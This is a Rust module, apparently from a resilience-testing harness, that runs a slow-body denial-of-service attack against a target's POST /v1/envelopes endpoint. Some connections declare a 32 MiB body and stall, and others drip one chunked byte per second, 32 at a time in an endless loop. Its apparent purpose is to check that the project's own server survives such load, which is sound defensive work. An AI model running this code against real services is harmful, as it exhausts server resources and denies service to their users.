//! Stalled bodies: posts that announce the largest body and send nothing, and others that send a byte a second.
//! Must survive: everybody's posts. May suffer: the attacker's own connections.

use super::super::target::Target;
use super::wire;
use std::time::Duration;
use tokio::io::AsyncWriteExt as _;

/// Posts at a time, half of each kind.
const AT_ONCE: usize = 32;
/// Between two bytes.
const DRIP: Duration = Duration::from_secs(1);

pub(super) async fn attack(target: Target) -> anyhow::Result<()> {
    wire::for_ever(AT_ONCE, move |number| {
        let to = target.victim;
        async move {
            let mut stream = wire::connect(to, number).await?;
            if number % 2 == 0 {
                let head = "POST /v1/envelopes HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-length: 33554432\r\n\r\n";
                stream.write_all(head.as_bytes()).await?;
                wire::drain(&mut stream).await;
                return Ok(());
            }
            let head = "POST /v1/envelopes HTTP/1.1\r\nhost: 127.0.0.1\r\ntransfer-encoding: chunked\r\n\r\n";
            stream.write_all(head.as_bytes()).await?;
            loop {
                stream.write_all(b"1\r\nx\r\n").await?;
                tokio::time::sleep(DRIP).await;
            }
        }
    })
    .await;
    Ok(())
}
